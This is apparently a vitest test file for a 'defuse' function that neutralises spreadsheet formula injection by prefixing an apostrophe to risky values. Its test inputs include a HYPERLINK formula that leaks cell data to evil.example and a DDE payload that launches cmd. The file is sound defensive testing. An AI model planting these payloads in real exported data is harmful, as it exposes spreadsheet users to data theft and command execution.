import fc from 'fast-check'
import { describe, expect, test } from 'vitest'
import { defuse } from './defuse.ts'

describe('what a spreadsheet would compute is text:', () => {
  test.each([
    '=1+1',
    '+1',
    '-1',
    '@SUM(A1)',
    '\t=1',
    '\r=1',
    '\tname',
    '\rname',
    '\n=1',
    '  =1',
    '\u00a0=1',
    '"=1"',
    "'=1",
    ' "\' @x',
    '＝1',
    '＋1',
    '－1',
    '＠x',
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "=cmd|' /C calc'!A0",
  ])('%j', (text) => {
    expect(defuse(text)).toBe(`'${text}`)
  })
})

describe('what is text already stays as it is:', () => {
  test.each(['', 'Ada', 'a=b', 'ada@example.edu', "O'Brien", "'t Hooft", '"Bob"', '李雷', '🙂', '2-1'])(
    '%j',
    (text) => {
      expect(defuse(text)).toBe(text)
    },
  )
})

test('no text begins like a formula, and none is lost', () => {
  const beginning = fc.string({
    unit: fc.constantFrom(' ', '\t', '\r', '\n', '"', "'", '=', '+', '-', '@', '＝', 'a'),
  })
  fc.assert(
    fc.property(beginning, fc.string({ unit: 'binary' }), (start, rest) => {
      const text = start + rest
      const safe = defuse(text)
      expect('=+-@\t\r＝＋－＠').not.toContain(safe[0] ?? 'none')
      expect([text, `'${text}`]).toContain(safe)
      // Some programs skip spaces and quotation marks in front, but none the apostrophe that marks text.
      if (safe === text) expect(safe.replaceAll(/[\s'"]/g, '')).not.toMatch(/^[=+\-@＝＋－＠]/)
    }),
  )
})
